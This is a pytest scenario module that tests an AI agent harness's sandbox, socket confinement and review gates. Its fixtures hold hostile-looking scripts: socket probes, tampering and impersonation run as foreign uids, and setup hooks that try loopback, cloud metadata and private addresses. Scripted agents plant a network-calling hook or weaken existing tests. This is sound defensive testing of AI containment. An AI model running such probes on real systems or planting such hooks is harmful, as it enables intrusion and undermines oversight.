"""The scenarios several modules of this folder share: each played once (``conftest.py``
makes it a package fixture), each test asserting its own property of what it left. A scenario
brings its own environment, output and stand-in (``capsys``, ``monkeypatch`` and the autouse
environment are one test's own) and records what its tests read."""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from harness import doctor as doctoring
from harness.doctor import DoctorReport
from harness.git.repo import GitRepo
from harness.git.worktrees import WorktreeManager, default_worktree_root
from harness.model.base import Model, Request, Response
from harness.model.scripted import ScriptedModel, load_script
from harness.sandbox.peers import SOCKETS_PREFIX
from harness.sandbox.relay import EGRESS_PORT
from harness.store.db import Store
from tests.browser.processes import ChromiumWatch
from tests.checks_passed import analysers_find_nothing
from tests.cli_helpers import Result, run_cli
from tests.cli_helpers import spawn as factory
from tests.factory_repo import git
from tests.standins.anthropic_standin import AnthropicStandIn
from tests.store_reads import pull_requests
from tests.validate.conftest import (
    ISSUES,
    KEY,
    Output,
    counting,
    file_issues,
    isolated_env,
    issue,
    journeys_pass,
    landed_tested_trees,
    make_app,
    queued_together,
    role_of,
    run_once,
    script_rules,
    serve,
    suite_alone,
    validators_pass,
)


@dataclass(frozen=True)
class FullCycle:
    """The three demo issues through one cycle, three validations side by side, all joined
    in the merge queue (in the issues' order) before any builds its candidate
    (``test_validate.py`` checks the cycle; ``test_test_evidence.py`` the bug fix, #2, that
    merged in it; ``test_suite_once.py`` the suite runs of #1, first in the queue, and #2).
    Production's health journey before it and the smoke runs after the two merges, which
    none of them reads, stand in as passed (the smoke run's own journeys are ``guarded``'s,
    its revert ``test_smoke_kill.py``'s, a red health ``test_validate.py``'s own), and so do
    the sealed validators of #1 and #2: the rename's, which its page addresses, is the seal
    read here (seals side by side are ``test_per_criterion.py``'s)."""

    repo: Path
    state: Path
    result: dict  # ``factory run --once --json``
    issues: dict[int, dict]  # each issue after the cycle
    received: list[dict[str, Any]]  # the bodies of the requests the stand-in answered
    violations: list[Any]  # what the stand-in found wrong in them
    report: dict  # ``factory report --json`` of the first validation
    started: list[str]  # every whole-suite process of the cycle (``counting``)


def play_full_cycle(root: Path) -> FullCycle:
    state = root / "state"
    repo, _ = make_app(root)
    with isolated_env(state) as mp, Output() as out:
        journeys_pass(mp, checks=("health", "smoke"))
        validators_pass(mp, issues=(1, 2))
        for server in serve(root, mp):
            # in the issues' order: the rename (#3, which a journey refuses) comes last, so no
            # candidate is built on it (one that was would be validated again, on production)
            queued_together(mp, 3, order=[1, 2, 3])
            started = counting(mp)
            file_issues(out, repo)
            result = run_once(out, repo, "--max-parallel", "3")
            received = [body for _, body in server.received]
            violations = list(server.violations)
        issues = {n: issue(out, repo, n) for n in (1, 2, 3)}
        store = Store.open(state)
        first = store.list_runs(limit=None, workflow="validate")[0]
        report = run_cli(out, "--repo", str(repo), "report", first.id, "--json").json()
        store.close()
    landed_tested_trees(state)
    return FullCycle(repo, state, result, issues, received, violations, report, started)


GITHUB_CANARY = "ghp_CANARY0confinement0000000000000000"
STRANGERS = {  # another tenant; the same, past the folder's mode; the seal's uid outside it
    "4242": ["--reuid=4242", "--regid=4242"],
    "4242 past the folder": [
        "--reuid=4242",
        "--regid=4242",
        "--inh-caps=+dac_override",
        "--ambient-caps=+dac_override",
    ],
    "65534": ["--reuid=65534", "--regid=65534"],
}
KNOCK = """
import socket, sys
seen = []
for path in sys.argv[1:]:
    try:
        with socket.socket(socket.AF_UNIX) as conn:
            conn.settimeout(20)
            conn.connect(path)
            conn.sendall(b"POST /v1/messages HTTP/1.1\\r\\ncontent-length: 2\\r\\n\\r\\n{}")
            seen.append("answered" if conn.recv(100) else "refused")
    except PermissionError:
        seen.append("denied")
    except OSError as exc:
        seen.append("refused" if isinstance(exc, ConnectionError) else repr(exc))
print(" ".join(seen))
"""


# a process of the seal's uid outside the seal, at the model socket: its mode and owner
TAMPER = """
import os, sys
path = sys.argv[1]
for name, change in (("chmod", lambda: os.chmod(path, 0o777)),
                     ("chown", lambda: os.chown(path, 65534, 65534))):
    try:
        change()
        print(name, "done")
    except OSError as exc:
        print(name, "denied", exc.errno)
"""


def tamper(model_socket: str) -> tuple[list[str], tuple[int, int, int]]:
    """What TAMPER, as uid 65534, said it could do to ``model_socket``, and the socket's
    (owner, group, mode) after it."""
    ids = ["--reuid=65534", "--regid=65534", "--clear-groups"]
    command = ["setpriv", *ids, "/usr/bin/python3", "-c", TAMPER, model_socket]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    info = os.stat(model_socket)
    said = done.stdout.split("\n")[:-1] or [done.stderr]
    return said, (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode))


# a process of the seal's uid outside the seal that takes the model socket's name: it moves
# the harness's socket aside and listens at its name, and says what the seal sent it
IMPOSTOR = """
import os, socket, sys
path = sys.argv[1]
try:
    os.rename(path, path + ".taken")
except OSError as exc:
    print("denied", exc.errno, flush=True)
    sys.exit()
listener = socket.socket(socket.AF_UNIX)
listener.bind(path)
listener.listen()
print("listening", flush=True)
listener.settimeout(120)
conn, _ = listener.accept()
conn.settimeout(30)
print("request" if conn.recv(100) else "nothing", flush=True)
"""


def impersonate(model_socket: str) -> tuple[str, subprocess.Popen[str]]:
    """The impostor, as uid 65534, at ``model_socket``: its first line (``denied …`` or
    ``listening``), and the process, which says the rest when it is done."""
    ids = ["--reuid=65534", "--regid=65534", "--clear-groups"]
    command = ["setpriv", *ids, "/usr/bin/python3", "-c", IMPOSTOR, model_socket]
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    return proc.stdout.readline().strip(), proc


def _parent(pid: int) -> int:
    return int((Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])


def seal_sockets(cycle: int) -> list[str]:
    """The two sockets of the seal that the process ``cycle`` started, found as root would
    (bubblewrap's command line names their folder; root may list it)."""
    for entry in Path("/proc").iterdir():
        try:
            args = (entry / "cmdline").read_bytes().split(b"\0")
            ancestor = int(entry.name)
            while ancestor not in (0, 1, cycle):
                ancestor = _parent(ancestor)
        except (OSError, ValueError):
            continue
        folders = {a.decode() for a in args if f"/{SOCKETS_PREFIX}".encode() in a}
        if ancestor == cycle and folders:
            return sorted(str(p) for p in Path(folders.pop()).iterdir())
    raise AssertionError("no seal is running")


def intrude(sockets: list[str]) -> dict[str, list[str]]:
    """What each stranger got from each of ``sockets``: denied (the folder's mode), refused
    (the harness hung up) or answered."""
    got = {}
    for who, ids in STRANGERS.items():
        command = ["setpriv", *ids, "--clear-groups", "/usr/bin/python3", "-c", KNOCK, *sockets]
        done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
        got[who] = (done.stdout or done.stderr).split()
    return got


class Watching:
    """The demo's scripted answers, with ``on_validator(turn, browsing)`` run as each request
    of a sealed validator arrives, ``turn`` counted over every seal, and the seal waiting for
    the answer. ``browsing``: its browser has the app open (every request after a seal's
    first, which it asks while its browser starts)."""

    kind = "scripted"

    def __init__(self, inner: Model, on_validator: Callable[[int, bool], None]) -> None:
        self.inner, self.on_validator, self.turns = inner, on_validator, 0

    def create(self, request: Request) -> Response:
        if role_of(request) == "validator":
            self.turns += 1
            self.on_validator(self.turns, len(request["messages"]) > 1)
        return self.inner.create(request)


@contextmanager
def watching_standin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, on_validator: Callable[[int, bool], None]
) -> Iterator[tuple[AnthropicStandIn, Watching]]:
    path = tmp_path / "script.yaml"
    path.write_text(yaml.safe_dump(script_rules()))
    responder = Watching(ScriptedModel(load_script(path)), on_validator)
    with AnthropicStandIn(responder=responder) as server:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", server.url)
        yield server, responder


@dataclass
class Interrupted:
    """The issue "how many notes" through three cycles, every Chromium of its journeys and of
    its validator sampled while it worked (``watch``; the harness's secrets planted as
    canaries): ``factory stop`` ends the first during its sealed validator's second turn,
    then ``factory resume``; the second, a ``factory run --once`` in a process of its own, is
    killed (``kill -9``) inside the smoke run after the merge; the third finishes it (its
    learned checks' replays and production's health journey stand in as passed; so do the
    security gate's analysers in the first, which implements it). During
    the second cycle's validator, strangers knock on the seal's sockets and a process of the
    seal's uid outside it tries to change the model socket's mode and owner, then to take
    its name. ``test_confinement.py`` and ``test_smoke_kill.py`` each check what they are
    about."""

    repo: Path
    state: Path
    watch: ChromiumWatch
    turns: int = 0  # the validator's turns, over every cycle
    first: dict = field(default_factory=dict)  # the first cycle's ``--json``, stopped
    validator_calls: int = 0  # the validator's requests when it ended
    labels: list[str] = field(default_factory=list)  # the issue's labels then
    run: str = ""  # the validation's run then, its status, and its check steps'
    status: str = ""
    checks: list[tuple[str, str | None]] = field(default_factory=list)  # (status, error kind)
    resumed: int = -1  # ``factory resume``'s exit code
    crashed: tuple[int | None, str] = (None, "")  # the second cycle's exit code and stderr
    killed: tuple[str, str | None] = ("", None)  # the run's status and step after the kill
    killed_steps: dict[str, str] = field(default_factory=dict)  # each step's last status then
    killed_lease: str | None = None  # who held the issue's lease then
    killed_worktrees: list[str] = field(default_factory=list)  # the factory's worktrees then
    again: Result | None = None  # the third cycle
    merged: list[str] = field(default_factory=list)  # the issue's labels after it
    cycle: int | None = None  # the second cycle's process, while it runs
    # what strangers got from the seal's two sockets during the second cycle's validator
    intruders: dict[str, list[str]] = field(default_factory=dict)
    impostor: str = ""  # what the impostor said, taking the model socket's name then
    # what a process of the seal's uid outside it said it did to the model socket's mode and
    # owner then (before the impostor), and the socket's (owner, group, mode) after it
    tampered: tuple[list[str], tuple[int, int, int]] = ([], (-1, -1, -1))
    report: str = ""  # ``factory report`` of the validation, after the third cycle


def play_interrupted(root: Path) -> Interrupted:
    from harness.browser import runner

    state = root / "state"
    repo, _ = make_app(root)
    seen = Interrupted(repo, state, ChromiumWatch())
    real_step = runner.run_step

    def watched_step(page: Any, step: Any) -> None:
        real_step(page, step)
        seen.watch.sample("journey")  # the journey's page is open on the app

    # the harness's secrets, as canaries (``FACTORY_MARKER_KEY`` is every test's)
    planted = {"GITHUB_TOKEN": GITHUB_CANARY, "ANTHROPIC_API_KEY": KEY}
    with isolated_env(state, **planted) as mp, Output() as out:
        env = dict(os.environ)

        def on_validator(turn: int, browsing: bool) -> None:
            if browsing:
                seen.watch.sample("validator")
            if turn == 3 and seen.cycle is not None:  # the second cycle's seal is waiting
                sockets = seal_sockets(seen.cycle)
                seen.intruders = intrude(sockets)
                model = next(s for s in sockets if Path(s).name.startswith("model-"))
                seen.tampered = tamper(model)
                seen.impostor = impersonate(model)[0]
            if turn == 2:  # the validator is running: its next request must be refused
                stopped = factory(repo, env, "stop", "--reason", "pulled during the validator")
                _, err = stopped.communicate(timeout=120)
                assert stopped.returncode == 0, err

        mp.setattr(runner, "run_step", watched_step)
        # production's health journey, before the change: neither test_confinement.py nor
        # test_smoke_kill.py reads it (the candidate's and the smoke runs' are sampled)
        journeys_pass(mp, checks=("health",))
        analysers_find_nothing(mp)  # the security gate's: neither module reads it
        cli = ("--repo", str(repo))
        with watching_standin(root, mp, on_validator) as (server, watching):
            file_issues(out, repo, [1])
            seen.first = run_cli(out, *cli, "run", "--once", "--json").json()
            seen.validator_calls = len([b for _, b in server.received if role_of(b) == "validator"])
            seen.labels = issue(out, repo, 1)["labels"]
            store = Store.open(state)
            (run,) = store.list_runs(limit=None, workflow="validate", issue=1)
            seen.run, seen.status = run.id, run.status
            check = [s for s in store.steps(run.id) if s.step_id == "check"]
            seen.checks = [(s.status, s.error_kind) for s in check]
            seen.resumed = run_cli(out, *cli, "resume").code

            # died inside smoke: app and worktree up
            fault = {**os.environ, "FACTORY_FAULT_AT": "validate.smoke.serving"}
            crashed = factory(repo, fault, "run", "--once", "--json")
            seen.cycle = crashed.pid
            seen.crashed = (crashed.wait(500), crashed.communicate(timeout=60)[1])
            (killed,) = store.list_runs(limit=None, workflow="validate", issue=1)
            seen.killed = (killed.status, killed.current_step)
            seen.killed_steps = {s.step_id: s.status for s in store.steps(killed.id)}
            seen.killed_lease = store.lease_holder(1)  # left behind by the dead process
            manager = WorktreeManager(GitRepo(repo), default_worktree_root(state))
            seen.killed_worktrees = [p.name for p in manager.list()]

            # the smoke run that finishes it tries the validator's quoted passes as learned
            # checks, each twice: none of which either module reads (its journey is real)
            journeys_pass(mp, checks=("smoke",), journeys=False)
            seen.again = run_cli(out, *cli, "run", "--once", "--json")
            seen.turns = watching.turns
        seen.merged = issue(out, repo, 1)["labels"]
        seen.report = run_cli(out, *cli, "report", seen.run).out
        store.close()
    landed_tested_trees(state)
    return seen


def phone_home(port: int) -> str:
    return (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'agent code')\n"
        "    print('REACHED THE HOST')\n"
        "except OSError as exc:\n"
        "    print('no network:', exc)\n"
    )


def hostile(port: int) -> str:
    """A setup script as an agent could leave it on production: it tries the host's
    loopback, the cloud metadata endpoint and a private address, directly and through the
    proxy (ignoring NO_PROXY), and always exits 0."""
    return (
        "import socket\n"
        "def direct(host, port):\n"
        "    try:\n"
        "        socket.create_connection((host, port), 2).sendall(b'agent code')\n"
        "        print('REACHED', host, port)\n"
        "    except OSError as exc:\n"
        "        print('no route to', host, port, exc)\n"
        "def proxied(request):\n"
        "    try:\n"
        f"        s = socket.create_connection(('127.0.0.1', {EGRESS_PORT}), 5)\n"
        "        s.sendall(request.encode())\n"
        "        print('proxy says', s.recv(100).split(b'\\r\\n')[0])\n"
        "    except OSError as exc:\n"
        "        print('no proxy', exc)\n"
        f"for host, port in [('127.0.0.1', {port}), ('169.254.169.254', 80), ('10.0.0.1', 80)]:\n"
        "    direct(host, port)\n"
        f"proxied('CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n')\n"
        "proxied('GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\n"
        "Host: 169.254.169.254\\r\\n\\r\\n')\n"
        "proxied('CONNECT 10.0.0.1:443 HTTP/1.1\\r\\nHost: 10.0.0.1:443\\r\\n\\r\\n')\n"
    )


# Production's own setup script is hostile (merged earlier): every setup of the cycle, which
# runs production's script through the egress proxy, is refused whatever it tries. The
# implementer of "how many notes" (the demo's change to the page) also rewrites that script to
# reach the listener directly: a setup input, so each check of the change sets it up again,
# offline. ``test_setup_network.py`` checks both; ``test_stories.py`` the story of the change.
# Every check of its cycle runs for real, none standing in: the whole cycle the suite keeps.
def _count_and_phone_home(port: int) -> dict[str, Any]:
    return {
        "output": "finish",
        "match": "how many notes",
        "turns": [
            [
                {
                    "tool": "edit_file",
                    "input": {
                        "path": "app.py",
                        "old_text": '        "<h1>Notes</h1>"\n',
                        "new_text": '        "<h1>Notes</h1>"\n'
                        "        f'<p id=\"count\">{len(notes)} notes</p>'\n",
                    },
                },
                {
                    "tool": "write_file",
                    "input": {"path": "setup_hook.py", "content": phone_home(port)},
                },
                # a manifest of a registry the allow-list does not hold (npm's)
                {"tool": "write_file", "input": {"path": "package.json", "content": "{}\n"}},
            ],
            [{"tool": "finish", "input": {"summary": "Count shown; setup tuned."}}],
        ],
    }


@dataclass
class Guarded:
    repo: Path
    state: Path
    port: int
    got: list[bytes]  # what the listener on the host's loopback received, over everything
    got_after_doctor: list[bytes] = field(default_factory=list)
    doctor: Result | None = None  # ``factory doctor --json``, before the cycle
    doctor_text: Result | None = None  # ``factory doctor``, printing the same report
    waiting: dict = field(default_factory=dict)  # "how many notes" (#1) after the cycle
    issue: dict = field(default_factory=dict)  # and after a person approved it
    received: list[dict[str, Any]] = field(default_factory=list)  # the stand-in's requests
    report: Result | None = None  # ``factory report`` of its validation


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on the host's loopback: (port, what it received)."""
    got: list[bytes] = []
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    srv.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
                got.append(conn.recv(100) or b"connected")
                conn.close()
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield srv.getsockname()[1], got
    finally:
        stop.set()
        thread.join(2)
        srv.close()


def _reports_of_doctor(mp: pytest.MonkeyPatch) -> list[DoctorReport]:
    """Each report ``factory doctor`` makes, kept as it makes it."""
    real, made = doctoring.run_doctor, []

    def kept(*args: Any, **options: Any) -> DoctorReport:
        made.append(real(*args, **options))
        return made[-1]

    mp.setattr(doctoring, "run_doctor", kept)
    return made


def play_guarded(root: Path) -> Guarded:
    """The setup-network cycle above, after ``factory doctor`` on production."""
    state = root / "state"
    repo, _ = make_app(root)
    with listening() as (port, got), isolated_env(state) as mp, Output() as out:
        seen = Guarded(repo, state, port, got)
        (repo / "setup_hook.py").write_text(hostile(port))
        # a script the set-up script runs: no set-up input by name, found by the trace alone
        (repo / "setup.sh").write_text("python3 setup_hook.py\n")
        config = yaml.safe_load((repo / "factory.yaml").read_text())
        config["commands"]["setup"] = "sh setup.sh"
        config["network"] = {"allow": [f"localhost:{port}"]}  # a listed name that is loopback
        (repo / "factory.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
        git(repo, "add", "-A")
        git(repo, "commit", "-qm", "setup, as an agent left it")

        with pytest.MonkeyPatch.context() as once:  # every check of production run once
            reports = _reports_of_doctor(once)
            seen.doctor = run_cli(out, "--repo", str(repo), "doctor", "--json")
            # the same report as a person reads it (what ``factory doctor`` prints of it)
            once.setattr(doctoring, "run_doctor", lambda *args, **options: reports[-1])
            seen.doctor_text = run_cli(out, "--repo", str(repo), "doctor")
        seen.got_after_doctor = list(got)
        for server in serve(root, mp, [_count_and_phone_home(port)]):
            file_issues(out, repo, [1])
            run_once(out, repo)
            seen.waiting = issue(out, repo, 1)  # setup's code, npm, refused hosts: a person
            assert run_cli(out, "--repo", str(repo), "approve", "1", "--by", "maintainer").code == 0
            seen.received = [body for _, body in server.received]
        seen.issue = issue(out, repo, 1)
        store = Store.open(state)
        validation = store.list_runs(limit=None, workflow="validate", issue=1)[
            0
        ]  # the approved one
        seen.report = run_cli(out, "--repo", str(repo), "report", validation.id)
        store.close()
    landed_tested_trees(state)
    return seen


def verdict_rule(
    verdict: str, score: float, summary: str, result: str = "pass", match: str = "how many notes"
) -> dict[str, Any]:
    """The validator of "how many notes" (or of the issue ``match`` finds): one look at the
    home page (observation 1), then its verdict: ``result`` for C1, a pass for C2 (which an
    issue of one criterion does not have)."""
    seen = {"observations": [1], "evidence": "the home page", "quote": 'heading "Notes"'}
    criteria = [
        {"criterion": "C1", "result": result, **seen},
        {"criterion": "C2", "result": "pass", **seen},
    ]
    return {
        "output": "submit_verdict",
        "match": match,
        "turns": [
            [{"tool": "browser_snapshot", "input": {}}],
            [
                {
                    "tool": "submit_verdict",
                    "input": {
                        "verdict": verdict,
                        "score": score,
                        "summary": summary,
                        "criteria": criteria,
                        "regressions": [],
                    },
                }
            ],
        ],
    }


FINISH = {"tool": "finish", "input": {"summary": "Done, with a test."}}


def implement_rule(match: str, edits: list[dict[str, str]]) -> dict[str, Any]:
    return {
        "output": "finish",
        "match": match,
        "turns": [[{"tool": "edit_file", "input": e} for e in edits], [FINISH]],
    }


# the rename as an honest implementer makes it (the demo's own also writes to the validator)
RENAME_ONLY = {
    "path": "app.py",
    "old_text": '<button type="submit">Add</button>',
    "new_text": '<button type="submit">Save</button>',
}
TABS_FIX = {
    "path": "app.py",
    "old_text": '    text = text.strip(" ")',
    "new_text": "    text = text.strip()",
}
COUNT = {
    "path": "app.py",
    "old_text": '        "<h1>Notes</h1>"\n',
    "new_text": '        "<h1>Notes</h1>"\n        f\'<p id="count">{len(notes)} notes</p>\'\n',
}
# an existing test replaced by another: as many tests and assertions as before
REPLACE = {
    "path": "test_app.py",
    "old_text": '    def test_render_escapes(self):\n        self.assertIn("&lt;b&gt;", '
    'render(["<b>"]))\n',
    "new_text": '    def test_render_shows_a_note(self):\n        self.assertIn("a", render(["a"]))\n',
}
WEAK = {
    "path": "test_app.py",
    "old_text": "    def test_add_note(self):",
    "new_text": "    def test_spaces_are_refused(self):\n        with self.assertRaises("
    'ValueError):\n            add_note([], "  ")\n\n    def test_add_note(self):',
}

# The changes that wait for a person, one issue each, validated one after the other in one
# cycle (``--max-parallel 1``: none is built on another): "how many notes" scored in the
# review band (#1), a second wording of it with a criterion the validator could not observe
# (#2), a third whose implementer replaces an existing test by another (#3), a bug fix whose new test
# passes on production (#4), and a button renamed that a hold-out journey clicks (#5). What
# sends #3 and #4 to a person is their tests: their journeys and validators stand in as passed;
# #1 and #2 its validator: their journeys stand in as passed; #5 its journey: its validator
# stands in as passed. The security gate's analysers stand in as having found nothing for all.
WAITING = [
    ISSUES[0],
    ("owner", "Show how many notes are kept", "Count them under the heading."),
    ("owner", "Show how many notes, with the tests tidied", "Count them; tidy the tests."),
    ISSUES[1],
    ISSUES[2],
]
REVIEW_BAND, UNSEEN, REPLACES_A_TEST, WEAK_BUG_TEST, RENAME = range(1, 6)


def decisions(state: Path, number: int) -> list[dict[str, Any]]:
    """The decisions of the validations of ``number``, oldest first."""
    store = Store.open(state)
    try:
        return [
            s.outputs
            for r in reversed(store.list_runs(limit=None, workflow="validate", issue=number))
            for s in store.steps(r.id)
            if s.step_id == "decide" and s.status == "succeeded"
        ]
    finally:
        store.close()


@dataclass
class Waiting:
    """What the cycle of ``WAITING`` left (``first``), what the next cycle left (nothing to do
    for any of them: ``second``), and, after a maintainer made the hold-out journey click the
    form's button whatever its word and queued the rename again (``factory retry``), what
    the cycle after that left (``last``)."""

    repo: Path
    state: Path
    first: dict[int, dict] = field(default_factory=dict)  # each issue after the first cycle
    main_after_first: bytes = b""  # production's app.py then
    prs_after_first: dict[int, list[str]] = field(default_factory=dict)  # their PRs' states
    second: dict[int, dict] = field(default_factory=dict)  # each issue after the second
    implemented: dict[int, int] = field(default_factory=dict)  # implement runs then
    validated: dict[int, int] = field(default_factory=dict)  # validate runs then
    prs: dict[int, list[str]] = field(default_factory=dict)  # their PRs' states then
    decided: dict[int, list[dict[str, Any]]] = field(default_factory=dict)  # decisions then
    journey_edited: bool = False
    moved_to: str = ""  # production after a maintainer's own commit, before the retry
    retried: Result | None = None  # ``factory retry`` of the rename
    last: dict[int, dict] = field(default_factory=dict)  # each issue after the third cycle
    implementer_asked: list[str] = field(default_factory=list)  # each attempt's first request


def play_waiting(root: Path) -> Waiting:
    state = root / "state"
    repo, holdout = make_app(root)
    seen = Waiting(repo, state)
    numbers = range(1, len(WAITING) + 1)
    rules = [
        verdict_rule("pass", 0.8, "Mostly right.", match="there are"),  # only #1 says so
        verdict_rule("pass", 0.95, "One criterion cannot be seen.", "not_observable", "are kept"),
        implement_rule("tests tidied", [COUNT, REPLACE]),
        implement_rule("only tabs", [TABS_FIX, WEAK]),
        implement_rule("Rename the Add button", [RENAME_ONLY]),
    ]

    def counts(store: Store, workflow: str) -> dict[int, int]:
        return {n: len(store.list_runs(limit=None, workflow=workflow, issue=n)) for n in numbers}

    with isolated_env(state) as mp, Output() as out:
        suite_alone(mp, issues=(REPLACES_A_TEST, WEAK_BUG_TEST))
        journeys_pass(mp, issues=(REVIEW_BAND, UNSEEN))
        # what sends the rename to a person is its journey: its validator stands in with the
        # pass the demo's gives it (0.95; the seal's own on the rename is the full cycle's)
        validators_pass(mp, issues=(RENAME,), score=0.95)
        analysers_find_nothing(mp)  # the security gate's: no change of theirs adds a finding
        cli = ("--repo", str(repo))
        for server in serve(root, mp, rules):
            for author, title, body in WAITING:
                made = ("issue", "new", "--title", title, "--body", body, "--author", author)
                assert run_cli(out, *cli, *made).code == 0
            with pytest.MonkeyPatch.context() as first:
                # production's health journey before the hold-out changes, which no test
                # reads, stands in as passed (the edited journey meets production for real)
                journeys_pass(first, checks=("health",))
                run_once(out, repo, "--max-parallel", "1")
            store = Store.open(state)
            seen.first = {n: issue(out, repo, n) for n in numbers}
            seen.main_after_first = GitRepo(repo).read_blob("main", "app.py") or b""
            seen.prs_after_first = {
                n: [pr.state for pr in pull_requests(store, n)] for n in numbers
            }

            run_once(out, repo)  # each waits for a person: nothing is validated or implemented
            seen.second = {n: issue(out, repo, n) for n in numbers}
            seen.implemented = counts(store, "implement")
            seen.validated = counts(store, "validate")
            seen.prs = {n: [pr.state for pr in pull_requests(store, n)] for n in numbers}
            seen.decided = {n: decisions(state, n) for n in numbers}

            # a maintainer sides with the rename: the journey now clicks the form's button,
            # whatever its word (it must still pass on production), and queues it again
            journey = holdout / "journeys" / "add_note.yaml"
            text = journey.read_text()
            edited = text.replace('{role: button, name: "Add"}', '{selector: "form button"}')
            journey.write_text(edited)
            seen.journey_edited = edited != text
            # production moves on meanwhile: a maintainer's own commit
            (repo / "CHANGES.md").write_text("A maintainer's note.\n")
            git(repo, "add", "CHANGES.md")
            git(repo, "commit", "-qm", "A maintainer's note")
            seen.moved_to = git(repo, "rev-parse", "main").strip()
            seen.retried = run_cli(out, *cli, "retry", str(RENAME))
            # what is read of the rename's attempt after it is where it started, what it was
            # told and that it merged on its journeys: its smoke run after the merge, which no
            # test here reads, stands in as passed
            journeys_pass(mp, issues=(RENAME,), checks=("smoke",))
            run_once(out, repo)
            seen.last = {n: issue(out, repo, n) for n in numbers}
            seen.implementer_asked = [
                json.dumps(body)
                for _, body in server.received
                if role_of(body) == "implementer" and len(body["messages"]) == 1
            ]
            store.close()
    landed_tested_trees(state)
    return seen
